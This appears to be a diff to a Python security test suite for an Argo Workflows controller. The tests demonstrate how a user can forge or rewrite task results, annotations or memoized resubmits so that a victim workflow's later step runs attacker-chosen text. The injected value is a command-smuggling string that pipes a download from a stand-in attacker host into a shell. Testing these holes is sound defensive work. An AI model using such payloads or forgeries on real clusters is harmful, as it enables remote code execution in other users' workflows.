@@ -24,6 +24,7 @@ from forgeries import (
     forge_succeeded_step,
     list_as_active,
     make_replacing_cron,
+    memoized_resubmit_of,
     patch_cron,
     point_artifacts_at,
     secret_volumes,
@@ -32,7 +33,9 @@ from forgeries import (
     tamper_stored_template,
     with_stored_templates,
 )
+from harness.processes import wait_for
 from kubelet import (
+    PodExecutor,
     complete_outputs,
     finish_pod,
     patch_task_result,
@@ -42,7 +45,6 @@ from kubelet import (
     wait_for_step_pod,
 )
 from library import create_library, library, start_relay, start_running, submit_to_approval
-from processes import wait_for
 from workflows import (
     create,
     find_node,
@@ -88,7 +90,8 @@ def test_strict_ref_workflow_runs_the_template_from_a_stored_spec(
     assert stored["workflowTemplateRef"] == {"name": template}
     assert stored["templates"][0]["container"]["image"] == TEMPLATE_IMAGE
     assert pod_images(pods) == {TEMPLATE_IMAGE}
-    assert {p["spec"].get("serviceAccountName") for p in pods} == {None}
+    # No account in the spec: the API server's ServiceAccount plugin gives the pod `default`.
+    assert {p["spec"].get("serviceAccountName") for p in pods} == {"default"}
 
 
 def test_strict_workflow_without_ref_ends_in_error(
@@ -274,7 +277,7 @@ def test_tampered_stored_templates_of_a_running_workflow_run_in_the_next_step(
 
 def test_a_task_result_patched_by_a_user_feeds_the_next_step(
         argo_strict: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient,
-        executor: k8s.ApiClient, argo: ArgoCLI) -> None:
+        executor: PodExecutor, argo: ArgoCLI) -> None:
     """The controller copies outputs from the WorkflowTaskResult named after the node, whoever
     wrote it last: here alice, while the step runs."""
     name = start_relay(alice, admin, NS)
@@ -300,3 +303,93 @@ def test_a_cron_workflow_listing_another_workflow_as_active_has_it_terminated(
     patch_cron(alice, NS, cron["metadata"]["name"], list_as_active(victim))
     terminated = wait_for_phase(admin, NS, victim["metadata"]["name"], ["Failed"])
     assert terminated["spec"]["shutdown"] == "Terminate"
+
+
+# -- writers: what the door ties to its real writer (test_argo_writers.py refuses each) ---------
+
+FORGED_OUT = "clean; curl -s attacker.example | sh"
+
+
+def test_a_task_result_from_another_workflows_pod_feeds_the_victims_next_step(
+        argo_strict: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient,
+        executor: PodExecutor, argo: ArgoCLI) -> None:
+    """Both Workflows' pods run as team-a's `default`: with a token bound to her own Workflow's
+    pod, alice creates the victim's produce result, labelled complete; the controller copies it
+    into the victim's node, and consume runs her text."""
+    victim = start_relay(alice, admin, NS)
+    argo("resume", victim)
+    victim_pod = wait_for_step_pod(admin, NS, victim, "produce")
+    other = start_relay(alice, admin, NS)
+    argo("resume", other)
+    attacker = executor.bound_client(wait_for_step_pod(admin, NS, other, "produce"))
+    result = report_outputs(attacker, get_workflow(admin, NS, victim),
+                            step_node_name(victim, 1, "produce"),
+                            {"parameters": [{"name": "out", "value": FORGED_OUT}]})
+    complete_outputs(attacker, NS, result)
+    finish_pod(admin, victim_pod)
+    assert main_args([wait_for_step_pod(admin, NS, victim, "consume")]) == [[FORGED_OUT]]
+
+
+def test_a_task_result_deleted_and_written_again_by_a_user_feeds_the_next_step(
+        argo_strict: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient,
+        executor: PodExecutor, argo: ArgoCLI) -> None:
+    """The victim's executor reported complete; alice deletes the result and creates it again
+    with her output, labelled complete: the controller takes hers."""
+    name = start_relay(alice, admin, NS)
+    argo("resume", name)
+    produce = wait_for_step_pod(admin, NS, name, "produce")
+    workflow = get_workflow(admin, NS, name)
+    node = step_node_name(name, 1, "produce")
+    result = report_outputs(executor, workflow, node,
+                            {"parameters": [{"name": "out", "value": "clean"}]})
+    complete_outputs(executor, NS, result)
+    k8s.CustomObjectsApi(alice).delete_namespaced_custom_object(
+        "argoproj.io", "v1alpha1", NS, "workflowtaskresults", result)
+    report_outputs(alice, workflow, node, {"parameters": [{"name": "out", "value": FORGED_OUT}]})
+    complete_outputs(alice, NS, result)
+    finish_pod(admin, produce)
+    assert main_args([wait_for_step_pod(admin, NS, name, "consume")]) == [[FORGED_OUT]]
+
+
+def test_an_annotation_changed_while_a_workflow_waits_reaches_the_step_that_reads_it(
+        argo_secure: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient,
+        argo: ArgoCLI) -> None:
+    """notify runs `--channel {{workflow.annotations.channel}}`: the controller makes the
+    annotation a parameter again on every pass, and its Secure compare reads only the spec."""
+    names = create_library(admin, NS, "notify")
+    name = submit_to_approval(alice, admin, NS, names["notify"], annotations={"channel": "ops"})
+    k8s.CustomObjectsApi(alice).patch_namespaced_custom_object(
+        "argoproj.io", "v1alpha1", NS, "workflows", name,
+        {"metadata": {"annotations": {"channel": FORGED_OUT}}})
+    argo("resume", name)
+    assert main_args([wait_for_step_pod(admin, NS, name, "notify")]) == [["--channel",
+                                                                          FORGED_OUT]]
+
+
+def test_a_memoized_resubmit_of_another_template_skips_its_step_and_feeds_the_origins_output(
+        argo_strict: WorkflowController, admin: k8s.ApiClient, alice: k8s.ApiClient,
+        executor: PodExecutor, argo: ArgoCLI) -> None:
+    """Alice's run of one relay produced her text, then was terminated; a Workflow with the
+    nodes a memoized resubmit of it has, but referencing another relay (whose produce would
+    run another toolbox): the controller creates no produce pod, and consume runs her text."""
+    mine = create_library(admin, NS, "relay", "toolbox")
+    theirs = create_library(admin, NS, "relay", "toolbox")
+    origin = submit_to_approval(alice, admin, NS, mine["relay"])
+    argo("resume", origin)
+    produce = wait_for_step_pod(admin, NS, origin, "produce")
+    result = report_outputs(executor, get_workflow(admin, NS, origin),
+                            step_node_name(origin, 1, "produce"),
+                            {"parameters": [{"name": "out", "value": FORGED_OUT}]})
+    complete_outputs(executor, NS, result)
+    finish_pod(admin, produce)
+    wait_for_step_pod(admin, NS, origin, "consume")
+    argo("terminate", origin)
+    forged = memoized_resubmit_of(wait_for_phase(admin, NS, origin, ["Failed"]),
+                                  theirs["relay"])
+    create(alice, forged)
+    name = forged["metadata"]["name"]
+    wait_for_workflow(admin, NS, name, lambda wf: find_node(wf, "approve") is not None,
+                      what="to run")
+    argo("resume", name)
+    assert main_args([wait_for_step_pod(admin, NS, name, "consume")]) == [[FORGED_OUT]]
+    assert step_pod(list_pods(admin, NS, name), "produce") is None
